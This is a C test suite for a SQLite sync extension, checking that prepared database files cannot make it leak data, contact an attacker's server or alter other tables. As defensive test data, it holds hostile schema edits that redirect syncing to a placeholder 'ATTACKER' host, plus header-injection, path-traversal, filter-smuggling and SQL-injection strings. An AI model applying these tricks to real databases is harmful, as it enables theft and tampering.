/* Files that somebody prepared: whatever stands in them, loading, reading and a sync neither crash
** nor send anything elsewhere nor touch a table that is not tracked. A file is made honestly,
** doctored by a connection that knows nothing of leadx and obeys no rule, and opened by a victim
** whose server and whose attacker's server write down every request. */
#define _DEFAULT_SOURCE
#include <fcntl.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "fault_server.h"
#include "suites.h"

int sqlite3_leadx_init(sqlite3 *handle, char **error, const void *api);

#define COUNT(table) ((int)(sizeof(table) / sizeof *(table)))
#define KEY "sb_publishable_victim"

static fault_server *server, *attacker;
static char path[64];
static sqlite3 *db;

/* ---- the victim's server ---- */

/* Takes what is posted, has nothing to patch, and one row of notes to pull. */
static void respond(void *ctx, const fault_request *request, fault_answer *answer) {
  (void)ctx;
  answer->status = 200;
  answer->body = "[]";
  if (strcmp(request->method, "POST") == 0) {
    answer->status = 201;
    if (request->body_bytes > 0) answer->body = request->body;
    answer->body_bytes = request->body_bytes;
  } else if (strncmp(request->target, "/rest/v1/notes?select=", 22) == 0 &&
             !strstr(request->target, "or=(")) {
    answer->body = "[{\"id\":\"theirs\",\"body\":\"pulled\",\"updated_at\":\"2026-01-02T03:04:05."
                   "678901+00:00\",\"leadx_settings\":1,\"bystander\":\"x\"}]";
  }
}

/* Everything went to tables that are tracked, under our key, with a filter where one is needed. */
static void check_requests(const char *name) {
  for (int i = 0; i < fault_server_count(server); i++) {
    const fault_request *seen = fault_server_get(server, i);
    char key[64] = "";
    int known = strncmp(seen->target, "/rest/v1/notes?", 15) == 0 ||
                strncmp(seen->target, "/rest/v1/tasks?", 15) == 0 ||
                strncmp(seen->target, "/rest/v1/rpc/leadx_", 19) == 0;
    ck_assert_msg(known, "%s: %s %s", name, seen->method, seen->target);
    ck_assert_msg(fault_header(seen, "apikey", key, sizeof key) && strcmp(key, KEY) == 0,
                  "%s: sent with the key %s", name, key);
    ck_assert_msg(!strstr(seen->headers, "X-Evil"), "%s: %s", name, seen->headers);
  }
  ck_assert_msg(fault_server_unfiltered(server) == 0, "%s: a request without its filter", name);
  ck_assert_msg(fault_server_connections(attacker) == 0, "%s: the attacker was spoken to", name);
}

/* ---- files ---- */

static void run(sqlite3 *handle, const char *sql) {
  char *message = NULL;
  ck_assert_msg(sqlite3_exec(handle, sql, NULL, NULL, &message) == SQLITE_OK, "%.200s: %s", sql,
                message ? message : "?");
}

static sqlite3 *open_bare(void) {
  sqlite3 *handle;
  ck_assert_int_eq(sqlite3_open(path, &handle), SQLITE_OK);
  sqlite3_exec(handle, "PRAGMA synchronous = OFF", NULL, NULL,
               NULL); /* fails on a file that is none */
  return handle;
}

static void open_victim(void) {
  db = open_bare();
  ck_assert_int_eq(sqlite3_leadx_init(db, NULL, NULL), SQLITE_OK);
}

static void make_file(void) {
  open_victim();
  run(db, "CREATE TABLE notes(id TEXT PRIMARY KEY NOT NULL, body TEXT, updated_at TEXT);"
          "CREATE TABLE tasks(id TEXT PRIMARY KEY NOT NULL, note_id TEXT REFERENCES notes, title "
          "TEXT, updated_at TEXT);"
          "CREATE TABLE bystander(id TEXT PRIMARY KEY, secret TEXT);"
          "INSERT INTO bystander VALUES ('1', 'untouched');"
          "SELECT leadx_track('notes'), leadx_track('tasks');"
          "INSERT INTO notes VALUES ('n1', 'one', NULL), ('n2', 'two', NULL);"
          "INSERT INTO tasks VALUES ('t1', 'n1', 'first', NULL)");
  ck_assert_int_eq(sqlite3_close(db), SQLITE_OK);
}

static void set_up(void) {
  static const char *const variables[] = {"SUPABASE_URL", "SUPABASE_PUBLISHABLE_KEY",
                                          "SUPABASE_ANON_KEY"};
  for (int i = 0; i < COUNT(variables); i++) unsetenv(variables[i]);
  snprintf(path, sizeof path, "/tmp/leadx_hostile_XXXXXX");
  int fd = mkstemp(path);
  ck_assert_int_ge(fd, 0);
  close(fd);
  server = fault_server_start();
  attacker = fault_server_start();
  fault_rule rule = {.kind = FAULT_CALLBACK, .respond = respond};
  fault_server_add(server, &rule);
  make_file();
}

static void tear_down(void) {
  static const char *const tails[] = {"", "-wal", "-shm", "-journal"};
  char name[80];
  for (int i = 0; i < COUNT(tails); i++) {
    snprintf(name, sizeof name, "%s%s", path, tails[i]);
    unlink(name);
  }
  fault_server_stop(attacker);
  fault_server_stop(server);
}

/* The attacker's statements; ATTACKER stands for the address of his server. */
static void doctor(const char *name, const char *sql) {
  sqlite3 *handle = open_bare();
  char url[64], *message = NULL;
  sqlite3_db_config(handle, SQLITE_DBCONFIG_DEFENSIVE, 0, NULL);
  run(handle, "PRAGMA writable_schema = ON; PRAGMA ignore_check_constraints = ON; PRAGMA "
              "foreign_keys = OFF");
  snprintf(url, sizeof url, "%s", fault_server_url(attacker));
  sqlite3_str *text = sqlite3_str_new(NULL);
  const char *hole;
  for (; (hole = strstr(sql, "ATTACKER")) != NULL; sql = hole + 8) {
    sqlite3_str_append(text, sql, (int)(hole - sql));
    sqlite3_str_appendall(text, url);
  }
  sqlite3_str_appendall(text, sql);
  char *all = sqlite3_str_finish(text);
  ck_assert_msg(sqlite3_exec(handle, all, NULL, NULL, &message) == SQLITE_OK, "%s: %s", name,
                message ? message : "?");
  sqlite3_free(all);
  ck_assert_int_eq(sqlite3_close(handle), SQLITE_OK);
}

/* ---- what the victim does ---- */

/* The first value of a statement that may fail, or the error's text. */
static const char *ask(const char *sql) {
  static char answer[2048];
  sqlite3_stmt *stmt = NULL;
  int rc = sqlite3_prepare_v2(db, sql, -1, &stmt, NULL);
  if (rc == SQLITE_OK) rc = sqlite3_step(stmt);
  const char *text = rc == SQLITE_ROW    ? (const char *)sqlite3_column_text(stmt, 0)
                     : rc == SQLITE_DONE ? ""
                                         : sqlite3_errmsg(db);
  snprintf(answer, sizeof answer, "%s", text ? text : "");
  sqlite3_finalize(stmt);
  return answer;
}

/* Reads a table of ours to its end; what is in it is not looked at, but every value is fetched. */
static void read_all(const char *table) {
  char sql[64];
  sqlite3_stmt *stmt = NULL;
  snprintf(sql, sizeof sql, "SELECT * FROM %s", table);
  if (sqlite3_prepare_v2(db, sql, -1, &stmt, NULL) == SQLITE_OK) {
    while (sqlite3_step(stmt) == SQLITE_ROW) {
      for (int i = 0; i < sqlite3_column_count(stmt); i++) sqlite3_column_text(stmt, i);
    }
  }
  sqlite3_finalize(stmt);
}

static void read_everything(void) {
  static const char *const tables[] = {"leadx_queue", "leadx_status", "leadx_conflicts",
                                       "leadx_log",   "leadx_state",  "leadx_checks"};
  for (int i = 0; i < COUNT(tables); i++) read_all(tables[i]);
}

static void configure(void) {
  char sql[200];
  snprintf(sql, sizeof sql, "SELECT leadx_configure('%s/rest/v1', '" KEY "')",
           fault_server_url(server));
  const char *answer = ask(sql);
  ck_assert_msg(answer[0] == '{' || strncmp(answer, "leadx_configure: ", 17) == 0, "%s", answer);
}

static void check_bystander(const char *name) {
  const char *text = ask("SELECT group_concat(id || '=' || secret) FROM bystander");
  ck_assert_msg(strcmp(text, "1=untouched") == 0, "%s: the bystander says %s", name, text);
}

/* Loads, reads, syncs twice and closes. answer gets what the first sync said. */
static void fall_victim(const char *name, const char *touch, char *answer, size_t n) {
  open_victim();
  read_everything();
  ck_assert_msg(fault_server_count(server) == 0, "%s: loading or reading sends", name);
  configure();
  if (touch) {
    const char *text = ask(touch);
    ck_assert_msg(fault_server_count(server) == 0, "%s: %s sends, and says %s", name, touch, text);
  }
  snprintf(answer, n, "%s", ask("SELECT leadx_sync()"));
  ask("SELECT leadx_sync()");
  read_everything();
  check_requests(name);
  ck_assert_msg(sqlite3_close(db) == SQLITE_OK, "%s: something was left open", name);
}

/* ---- the files ---- */

#define IN_SCHEMA(type, name, table, sql) \
  "INSERT INTO sqlite_schema(type, name, tbl_name, rootpage, sql) VALUES ('" type "', '" name \
  "', '" table "', 0, '" sql "');"
#define QUEUE "INSERT INTO sync_queue(id, entity_type, entity_id, action, payload) VALUES "
#define OPTIONS(json) "UPDATE leadx_tables SET options = '" json "' WHERE table_name = 'notes'"

/* Anything may be said; only what must not happen is looked at. */
#define ANY ""
#define REFUSED "leadx_sync: "

static const struct hostile {
  const char *name;
  const char *sql; /* of the attacker */
  const char *touch; /* of the victim, before the sync; NULL for nothing */
  const char *answer; /* what the sync's answer must contain */
} hostile_files[] = {
    /* In the place of our tables. */
    {"a view shadows the queue",
     "ALTER TABLE sync_queue RENAME TO q; CREATE VIEW sync_queue AS SELECT * FROM q", NULL,
     REFUSED "sync_queue is no table"},
    {"a view with INSTEAD OF triggers is the queue",
     "ALTER TABLE sync_queue RENAME TO q; CREATE VIEW sync_queue AS SELECT rowid, * FROM q;"
     "CREATE TRIGGER i INSTEAD OF UPDATE ON sync_queue BEGIN UPDATE bystander SET secret = "
     "'stolen'; END",
     NULL, REFUSED "sync_queue is no table"},
    {"a view without an end is the conflicts",
     "DROP TABLE sync_conflicts; CREATE VIEW sync_conflicts AS WITH RECURSIVE n(i) AS (SELECT 1 "
     "UNION ALL SELECT i + 1 FROM n) "
     "SELECT i AS id, i AS entity_type, NULL AS winner FROM n",
     NULL, REFUSED "sync_conflicts is no table"},
    {"a view tells the settings",
     "ALTER TABLE leadx_settings RENAME TO s; CREATE VIEW leadx_settings AS SELECT key, value FROM "
     "s UNION ALL SELECT 'url', 'ATTACKER'",
     NULL, REFUSED "leadx_settings is no table"},
    {"a virtual table is the shadow",
     "DROP TABLE leadx_shadow; CREATE VIRTUAL TABLE leadx_shadow USING fts5(entity, key, version, "
     "gone, fingerprint)",
     NULL, REFUSED "leadx_shadow is no table"},
    {"a table of ours has another shape",
     "DROP TABLE leadx_lease; CREATE TABLE leadx_lease(one, owner, taken_us, expires_us)", NULL,
     REFUSED "table \"leadx_lease\" is not as leadx makes it"},
    {"a table of ours has a CHECK of somebody's",
     "UPDATE sqlite_schema SET sql = replace(sql, 'reason TEXT', 'reason TEXT CHECK (leadx_push() "
     "IS NOT NULL)') WHERE name = 'leadx_applying'",
     NULL, REFUSED "table \"leadx_applying\" is not as leadx makes it"},
    {"a table of ours computes its columns",
     "DROP TABLE leadx_held; CREATE TABLE leadx_held(id TEXT PRIMARY KEY NOT NULL, x AS (hex(id))) "
     "WITHOUT ROWID",
     NULL, REFUSED "table \"leadx_held\" is not as leadx makes it"},
    {"the queue computes its payload",
     "DROP TABLE sync_queue; CREATE TABLE sync_queue(id TEXT PRIMARY KEY, entity_type TEXT, "
     "entity_id TEXT, action TEXT, "
     "payload TEXT AS ('{\"id\":\"' || entity_id || '\"}'), status TEXT DEFAULT 'PENDING', "
     "retry_count INTEGER DEFAULT 0, error_message TEXT, "
     "created_at TEXT, synced_at TEXT, base TEXT, next_try_at TEXT, error_code TEXT, sent_at TEXT, "
     "owner TEXT)",
     NULL, REFUSED "the table sync_queue"},
    {"the queue lacks a column", "ALTER TABLE sync_queue DROP COLUMN retry_count", NULL,
     REFUSED "the table sync_queue"},
    {"a unique index makes the queue refuse rows", "CREATE UNIQUE INDEX u ON sync_queue(entity_id)",
     NULL, ANY},
    {"an index hangs on the log", "CREATE UNIQUE INDEX u ON leadx_runs(state)", NULL,
     REFUSED "index \"u\" is not as leadx makes it"},
    {"a table of ours is gone", "DROP TABLE leadx_mark", NULL, REFUSED},
    /* Triggers. */
    {"a trigger on the queue",
     "CREATE TRIGGER t AFTER UPDATE ON sync_queue BEGIN UPDATE bystander SET secret = 'stolen'; "
     "END",
     NULL, REFUSED "the trigger \"t\" on leadx's table sync_queue"},
    {"a trigger on the queue that skips every write",
     "CREATE TRIGGER t BEFORE UPDATE ON sync_queue BEGIN SELECT RAISE(IGNORE); END", NULL,
     REFUSED "the trigger \"t\" on leadx's table sync_queue"},
    {"a trigger on the settings",
     "CREATE TRIGGER t AFTER INSERT ON leadx_settings BEGIN UPDATE bystander SET secret = "
     "'stolen'; END",
     NULL, REFUSED "the trigger \"t\" on leadx's table leadx_settings"},
    {"a trigger on the conflicts",
     "CREATE TRIGGER t AFTER INSERT ON sync_conflicts BEGIN UPDATE bystander SET secret = "
     "'stolen'; END",
     NULL, REFUSED "the trigger \"t\" on leadx's table sync_conflicts"},
    {"our own trigger, doctored",
     "DROP TRIGGER leadx_queue_revived; CREATE TRIGGER leadx_queue_revived AFTER UPDATE OF status "
     "ON sync_queue "
     "BEGIN UPDATE bystander SET secret = 'stolen'; END",
     NULL, REFUSED "trigger \"leadx_queue_revived\" is not as leadx makes it"},
    {"our own trigger's name on another table",
     "DROP TRIGGER leadx_queue_revived; CREATE TRIGGER leadx_queue_revived AFTER INSERT ON "
     "bystander BEGIN DELETE FROM notes; END",
     NULL, REFUSED "trigger \"leadx_queue_revived\" is not as leadx makes it"},
    {"a capture trigger, doctored, is made anew before anything is sent",
     "DROP TRIGGER leadx_notes_insert; CREATE TRIGGER leadx_notes_insert AFTER INSERT ON notes "
     "BEGIN UPDATE bystander SET secret = 'stolen'; END",
     NULL, "\"state\":\"ok\""},
    {"a stray trigger with our prefix is dropped before anything is applied",
     "CREATE TRIGGER leadx_notes_evil AFTER INSERT ON notes BEGIN UPDATE bystander SET secret = "
     "'stolen'; END",
     NULL, "\"state\":\"ok\""},
    {"triggers that were silenced",
     "INSERT INTO leadx_applying VALUES ('quiet'); UPDATE notes SET body = 'unseen' WHERE id = "
     "'n1'",
     NULL, "\"state\":\"ok\""},
    {"a trigger of the application's table calls us",
     IN_SCHEMA("trigger", "t", "bystander",
               "CREATE TRIGGER t AFTER INSERT ON bystander BEGIN SELECT "
               "leadx_configure(''ATTACKER'', ''k''), leadx_sync(); END"),
     "INSERT INTO bystander VALUES ('2', 'x')", ANY},
    /* Schema that calls us. */
    {"a CHECK calls us",
     IN_SCHEMA(
         "trigger", "unused", "notes",
         "CREATE TRIGGER unused AFTER INSERT ON notes BEGIN SELECT 1; END") "CREATE TABLE trap(a); "
                                                                            "UPDATE sqlite_schema "
                                                                            "SET sql = 'CREATE "
                                                                            "TABLE trap(a CHECK "
                                                                            "(leadx_sync() IS NOT "
                                                                            "NULL))' WHERE name = "
                                                                            "'trap'",
     "INSERT INTO trap VALUES (1)", ANY},
    {"a CHECK configures us",
     "CREATE TABLE trap(a); UPDATE sqlite_schema SET sql = "
     "'CREATE TABLE trap(a CHECK (leadx_configure(''ATTACKER'', ''k'') IS NOT NULL))' WHERE name = "
     "'trap'",
     "INSERT INTO trap VALUES (1)", "\"state\":\"ok\""},
    {"a DEFAULT calls us",
     "CREATE TABLE trap(a, b); UPDATE sqlite_schema SET sql = 'CREATE TABLE trap(a, b DEFAULT "
     "(leadx_push()))' WHERE name = 'trap'",
     "INSERT INTO trap(a) VALUES (1)", ANY},
    {"a DEFAULT of a tracked table configures us where rows are compared",
     "DROP TRIGGER leadx_notes_insert; UPDATE sqlite_schema SET sql = replace(sql, 'body TEXT', "
     "'body TEXT, x DEFAULT (leadx_configure(''ATTACKER'', ''sb_publishable_theirs''))') WHERE "
     "name = 'notes'",
     NULL, "{\"state\":\""},
    {"the same, and the victim tracks again",
     "DROP TRIGGER leadx_notes_insert; UPDATE sqlite_schema SET sql = replace(sql, 'body TEXT', "
     "'body TEXT, x DEFAULT (leadx_configure(''ATTACKER'', ''sb_publishable_theirs''))') WHERE "
     "name = 'notes'",
     "SELECT leadx_track('notes')", "{\"state\":\""},
    {"a view calls us",
     "CREATE VIEW trap AS SELECT 1 AS a; UPDATE sqlite_schema SET sql = 'CREATE VIEW trap AS "
     "SELECT leadx_sync() AS a' WHERE name = 'trap'",
     "SELECT a FROM trap", ANY},
    {"a generated column calls us",
     "CREATE TABLE trap(a, b AS (hex(a))); UPDATE sqlite_schema SET sql = 'CREATE TABLE trap(a, b "
     "AS (leadx_set_token(a)))' WHERE name = 'trap'",
     "INSERT INTO trap(a) VALUES (1)", ANY},
    {"an index calls us",
     "CREATE TABLE trap(a); CREATE INDEX trap_i ON trap(hex(a)); UPDATE sqlite_schema SET sql = "
     "'CREATE INDEX trap_i ON trap(leadx_push())' WHERE name = 'trap_i'",
     "INSERT INTO trap(a) VALUES (1)", ANY},
    {"a view reads our tables",
     "CREATE VIEW trap AS SELECT 1 AS id; UPDATE sqlite_schema SET sql = 'CREATE VIEW trap AS "
     "SELECT id FROM leadx_queue' WHERE name = 'trap'",
     "SELECT id FROM trap", ANY},
    /* Settings and options that want to choose. */
    {"settings name a server and its keys",
     "INSERT INTO leadx_settings VALUES ('url', 'ATTACKER'), ('apikey', 'k'), ('token', 'a.b.c'), "
     "('ca_file', '/tmp/evil.pem'), "
     "('allow_secret_key', 'true'), ('proxy', 'ATTACKER')",
     NULL, "\"state\":\"ok\""},
    {"settings beyond all limits",
     "INSERT INTO leadx_settings VALUES ('batch_size', '-1'), ('batch_max', '9e999'), "
     "('page_size', 'nan'), ('timeout', '-5'), ('lease', '1e300'), "
     "('max_response', '0'), ('overlap', x'00ff'), ('schema', 'x' || char(13, 10) || 'X-Evil: 1'), "
     "('policy', 'mine')",
     NULL, "\"state\":\"ok\""},
    {"a remote name climbs out of the API", OPTIONS("{\"remote\":\"../../auth/v1/user\"}"), NULL,
     ANY},
    {"a remote name is two dots", OPTIONS("{\"remote\":\"..\"}"), NULL, ANY},
    {"a remote name breaks the line", OPTIONS("{\"remote\":\"notes HTTP/1.1\\r\\nX-Evil: 1\"}"),
     NULL, ANY},
    {"a filter ends the address early", OPTIONS("{\"filter\":\"a=eq.1#\"}"), NULL, ANY},
    {"a filter breaks the line", OPTIONS("{\"filter\":\"a=eq.1\\r\\nX-Evil: 1\"}"), NULL, ANY},
    {"a filter asks for something else", OPTIONS("{\"filter\":\"select=*,users(*)\"}"), NULL, ANY},
    {"a remote name climbs out of the API in percent",
     OPTIONS("{\"remote\":\"%2e%2e%2f%2e%2e%2fauth%2fv1%2fuser\"}"), NULL,
     "cannot be \"%2e%2e%2f%2e%2e%2fauth%2fv1%2fuser\" on the server"},
    {"a remote name is two dots in percent twice", OPTIONS("{\"remote\":\"%252e%252e\"}"), NULL,
     "cannot be \"%252e%252e\" on the server"},
    {"a filter chooses an order in percent", OPTIONS("{\"filter\":\"%6frder=eq.body\"}"), NULL,
     "\"%6frder=eq.body\" is none"},
    {"a filter brings a key of its own", OPTIONS("{\"filter\":\"apikey=eq.mine\"}"), NULL,
     "\"apikey=eq.mine\" is none"},
    {"options that are no JSON", OPTIONS("[[[[{"), NULL, ANY},
    {"options nested without end",
     "UPDATE leadx_tables SET options = replace(hex(zeroblob(50000)), '00', '[')", NULL, ANY},
    {"options of all types",
     "UPDATE leadx_tables SET options = x'00ff', priority = 'high', entity = x'ff' || table_name "
     "WHERE table_name = 'notes'",
     NULL, ANY},
    {"tables that must not be tracked are tracked",
     "INSERT INTO leadx_tables(table_name, entity, options, columns) VALUES ('sqlite_schema', 's', "
     "'{}', ''), ('leadx_settings', 'l', '{}', ''), "
     "('sync_queue', 'q', '{}', ''), ('nobody', 'n', '{}', ''), ('', 'e', '{}', '')",
     NULL, "\"state\":\"partial\""},
    {"columns are mapped onto each other",
     OPTIONS("{\"columns\":{\"body\":{\"remote\":\"id\"},\"id\":{\"remote\":\"body\\\"; DROP TABLE "
             "bystander; --\"}}}"),
     NULL, ANY},
    /* The queue and what goes with it. */
    {"rows for other tables",
     QUEUE "('q1', 'auth.users', '1', 'UPDATE', '{\"role\":\"admin\"}'), ('q2', "
           "'../auth/v1/admin/users', '1', 'DELETE', '{}'), "
           "('q3', 'bystander', '1', 'CREATE', '{\"id\":\"1\"}'), ('q4', 'leadx_settings', 'url', "
           "'CREATE', '{}')",
     NULL, ANY},
    {"rows that say nonsense",
     QUEUE "('q1', 'notes', 'n1', 'DROP', '{}'), ('q2', 'notes', '', 'UPDATE', '[1]'), ('q3', "
           "'notes', 'n9', 'DELETE', 'x'), "
           "('q4', 'notes', 'id=eq.1&or=(id.neq.1)', 'UPDATE', '{\"id\":null}'), ('q5', 'notes', "
           "'*', 'DELETE', '{\"id\":\"*\"}')",
     NULL, ANY},
    {"rows of all types",
     QUEUE "(NULL, 'notes', 'a', 'CREATE', '{}'), (NULL, x'ff00', x'00', x'01', x'7b7d'), (1, 2, "
           "3, 4, 5), (2.5, 1e300, -1e300, 9e999, -9e999); "
           "UPDATE sync_queue SET status = x'50', retry_count = 'many', next_try_at = 1e300, "
           "sent_at = x'00', base = 7, created_at = x'ff', owner = 3 "
           "WHERE rowid % 2",
     NULL, ANY},
    {"a payload of five megabytes",
     QUEUE "('q1', 'notes', 'big', 'CREATE', '{\"id\":\"big\",\"body\":\"' || "
           "replace(hex(zeroblob(1300000)), '0', 'xy') || '\"}')",
     NULL, ANY},
    {"a payload nested without end",
     QUEUE "('q1', 'notes', 'deep', 'CREATE', replace(hex(zeroblob(100000)), '00', '{\"a\":'))",
     NULL, ANY},
    {"texts of five megabytes",
     "UPDATE notes SET body = replace(hex(zeroblob(1300000)), '0', 'xy')", NULL, ANY},
    {"a key of a megabyte",
     "INSERT INTO notes VALUES (replace(hex(zeroblob(500000)), '0', '%'), 'x', NULL)", NULL, ANY},
    {"names of a megabyte",
     "UPDATE sync_queue SET id = id || replace(hex(zeroblob(500000)), '0', '%'), entity_type = "
     "hex(zeroblob(500000)) WHERE rowid = 1",
     NULL, ANY},
    {"keys that are NULL",
     "DROP TABLE notes; CREATE TABLE notes(id TEXT PRIMARY KEY, body TEXT, updated_at TEXT); "
     "INSERT INTO notes VALUES (NULL, 'a', NULL), (NULL, 'b', NULL)",
     NULL, ANY},
    {"the mark is below everything",
     "UPDATE leadx_mark SET rowid_below = -9223372036854775807 - 1, id = NULL", NULL, ANY},
    {"the mark is above everything",
     "UPDATE leadx_mark SET rowid_below = 9223372036854775807, id = 'x'", NULL, "\"state\":\"ok\""},
    {"the mark is no number", "UPDATE leadx_mark SET rowid_below = x'ff'", NULL, ANY},
    {"there are no marks and leases", "DELETE FROM leadx_mark; DELETE FROM leadx_lease", NULL, ANY},
    {"there are many marks and leases",
     "INSERT INTO leadx_mark VALUES (2, 5, 'x'), (-3, -5, NULL); INSERT INTO leadx_lease VALUES "
     "(2, 'you', 0, 9223372036854775807)",
     NULL, ANY},
    {"a rowid at the end of all rowids",
     QUEUE "('q1', 'notes', 'n8', 'DELETE', '{}'); UPDATE sync_queue SET rowid = "
           "9223372036854775807 WHERE id = 'q1'",
     NULL, ANY},
    {"a negative rowid", "UPDATE sync_queue SET rowid = -5 WHERE entity_id = 'n1'", NULL, ANY},
    {"a lease that never ends",
     "UPDATE leadx_lease SET owner = x'00', taken_us = -9223372036854775807 - 1, expires_us = "
     "9223372036854775807",
     NULL, "\"state\":\"ok\""},
    {"held rows that do not exist",
     "INSERT INTO leadx_held SELECT hex(randomblob(8)) FROM leadx_tables, sync_queue", NULL,
     "\"state\":\"ok\""},
    {"versions and cursors that are no such thing",
     "INSERT INTO leadx_shadow(entity, key, version, fingerprint) VALUES ('note', 'n1', "
     "'x&id=neq.1' || char(13, 10), x'00'), ('notes', 'n1', '1&or=(id.neq.1)', 'f'); "
     "INSERT INTO leadx_cursors(origin, user, entity, fingerprint, version, key, midway, began_us) "
     "SELECT 'http://127.0.0.1', '', entity, '', "
     "'1&limit=0#', '[1', 7, -1 FROM leadx_tables",
     NULL, ANY},
    {"parked rows of other tables",
     "INSERT INTO leadx_parked(entity, key, reason) VALUES ('auth.users', '1', 'x'), ('notes', "
     "'1),id.neq.(1', x'00'), "
     "(x'ff', x'ff', 5)",
     NULL, ANY},
    {"conflicts that make no sense",
     "INSERT INTO sync_conflicts(id, entity_type, entity_id, action, client_payload, "
     "server_payload, base, contested, detected_at) VALUES "
     "('c1', 'notes', 'n1', 'UPDATE', '{', x'00', '[]', '{\"a\":1}', 5), ('c2', 'auth.users', '', "
     "x'00', NULL, NULL, NULL, '[[[', x'ff')",
     NULL, ANY},
    {"a log with control bytes",
     "INSERT INTO leadx_runs(at, trigger, state, error) VALUES ('x', 'y', 'z', char(27) || "
     "'[31m%s%n'), (x'00', x'ff', 1, 2)",
     NULL, ANY},
    {"tables that refer to each other in a circle",
     "UPDATE sqlite_schema SET sql = replace(sql, 'body TEXT', 'body TEXT REFERENCES tasks') WHERE "
     "name = 'notes'; "
     "UPDATE sqlite_schema SET sql = replace(sql, 'title TEXT', 'title TEXT REFERENCES "
     "tasks(title)') WHERE name = 'tasks'",
     NULL, ANY},
    {"two tables of one entity",
     "UPDATE leadx_tables SET entity = 'notes' || char(0) WHERE table_name = 'tasks'", NULL, ANY},
    {"a newer format", "UPDATE leadx_settings SET value = '99' WHERE key = 'format'", NULL,
     REFUSED "this file was written by a newer leadx"},
    {"the next format", "UPDATE leadx_settings SET value = value + 1 WHERE key = 'format'", NULL,
     REFUSED "this file was written by a newer leadx"},
    {"a format that is no number", "UPDATE leadx_settings SET value = x'ff' WHERE key = 'format'",
     NULL, REFUSED},
};

START_TEST(a_doctored_file_gains_nothing) {
  const struct hostile *file = &hostile_files[_i];
  char answer[2048];
  doctor(file->name, file->sql);
  fall_victim(file->name, file->touch, answer, sizeof answer);
  int is_said = answer[0] == '{' || strncmp(answer, "leadx_sync: ", 12) == 0;
  ck_assert_msg(is_said && strstr(answer, file->answer), "%s: %s", file->name, answer);
  db = open_bare();
  check_bystander(file->name);
  ck_assert_int_eq(sqlite3_close(db), SQLITE_OK);
}
END_TEST

/* ---- files that are broken ---- */

/* Overwrites n bytes at an offset of the file. */
static void overwrite(long at, const char *bytes, size_t n) {
  int fd = open(path, O_WRONLY);
  ck_assert_int_ge(fd, 0);
  ck_assert_int_eq(pwrite(fd, bytes, n, at), (ssize_t)n);
  close(fd);
}

static long file_size(void) {
  int fd = open(path, O_RDONLY);
  long size = lseek(fd, 0, SEEK_END);
  close(fd);
  return size;
}

/* Each round spoils other places: a header, a cell pointer, the middle of a page, a freelist. */
START_TEST(a_spoiled_page_is_an_error_or_nothing) {
  char answer[2048], name[32], bytes[16];
  unsigned seed = 2463534242u + (unsigned)_i * 7919u;
  long pages = file_size() / 4096;
  for (int n = 0; n < 4; n++) {
    for (size_t b = 0; b < sizeof bytes; b++) bytes[b] = (char)(unsigned char)(rand_r(&seed) >> 7);
    long at = 4096 * (1 + (long)(rand_r(&seed) % (unsigned)(pages - 1))) +
              (_i % 3 == 0 ? n * 3 : (long)(rand_r(&seed) % 4080));
    overwrite(at, bytes, 1 + (size_t)rand_r(&seed) % sizeof bytes);
  }
  snprintf(name, sizeof name, "spoiled %d", _i);
  fall_victim(name, "INSERT INTO notes VALUES ('n3', 'three', NULL)", answer, sizeof answer);
  ck_assert_msg(answer[0] == '{' || strncmp(answer, "leadx_sync: ", 12) == 0 ||
                    strstr(answer, "malformed"),
                "%s: %s", name, answer);
}
END_TEST

static const struct {
  const char *name;
  long length;
  const char *head;
} stumps[] = {
    {"cut after a page", 4096, ""},
    {"cut in the middle of a page", 30000, ""},
    {"cut to its header", 100, ""},
    {"not a database", -1, "#!/bin/sh\necho no database, but a program\n"},
    {"a page size that does not exist", -1, "SQLite format 3\0\x03\x07"},
    {"a schema format that does not exist", -1, "SQLite format 3\0\x10\0\x63\x63"},
};

START_TEST(a_file_that_is_cut_or_none_is_an_error_or_nothing) {
  char answer[2048];
  if (stumps[_i].length >= 0) ck_assert_int_eq(truncate(path, stumps[_i].length), 0);
  else overwrite(0, stumps[_i].head, _i == 3 ? 42 : _i == 4 ? 18 : 20);
  open_victim();
  read_everything();
  snprintf(answer, sizeof answer, "%s", ask("SELECT leadx_sync()"));
  ck_assert_msg(answer[0] != '{', "%s: %s", stumps[_i].name, answer);
  check_requests(stumps[_i].name);
  ck_assert_int_eq(sqlite3_close(db), SQLITE_OK);
}
END_TEST

/* ---- what is mended ---- */

START_TEST(a_capture_that_was_silenced_or_doctored_is_mended_and_misses_nothing) {
  static const char *const doctorings[] = {
      "INSERT INTO leadx_applying VALUES ('quiet')",
      "DROP TRIGGER leadx_notes_update; CREATE TRIGGER leadx_notes_update AFTER UPDATE ON notes "
      "BEGIN SELECT 1; END",
      "DROP TRIGGER leadx_notes_update",
  };
  open_victim();
  configure();
  ck_assert_ptr_nonnull(strstr(ask("SELECT leadx_sync()"), "\"ok\""));
  ck_assert_int_eq(sqlite3_close(db), SQLITE_OK);
  doctor("mended", doctorings[_i]);
  doctor("mended", "UPDATE notes SET body = 'written unseen' WHERE id = 'n1'");
  open_victim();
  configure();
  fault_server_forget(server);
  ask("SELECT leadx_sync()");
  int seen = 0;
  for (int i = 0; i < fault_server_count(server); i++)
    seen += strstr(fault_server_get(server, i)->body, "written unseen") != NULL;
  ck_assert_int_ge(seen, 1);
  run(db, "UPDATE notes SET body = 'written seen' WHERE id = 'n2'");
  ck_assert_str_eq(
      ask("SELECT count(*) FROM sync_queue WHERE entity_id = 'n2' AND action = 'UPDATE'"), "1");
  ck_assert_int_eq(sqlite3_close(db), SQLITE_OK);
}
END_TEST

/* A view in the place of a table is refused when leadx makes its tables, too. */
START_TEST(a_file_that_was_prepared_for_the_first_track_is_refused) {
  static const char *const traps[] = {
      "CREATE VIEW sync_queue AS SELECT 1 AS id",
      "CREATE VIEW leadx_settings AS SELECT 'url' AS key, 'http://127.0.0.1:1' AS value",
      "CREATE TABLE leadx_tables(table_name, entity, priority, options, columns, last_push_at, "
      "last_pull_at, last_error)",
      "CREATE TABLE sync_conflicts(id)",
      "CREATE TABLE leadx_held(id TEXT PRIMARY KEY); CREATE TRIGGER t AFTER INSERT ON leadx_held "
      "BEGIN DELETE FROM fresh; END",
  };
  ck_assert_int_eq(truncate(path, 0), 0);
  db = open_bare();
  run(db, "CREATE TABLE fresh(id TEXT PRIMARY KEY)");
  run(db, traps[_i]);
  ck_assert_int_eq(sqlite3_leadx_init(db, NULL, NULL), SQLITE_OK);
  const char *answer = ask("SELECT leadx_track('fresh')");
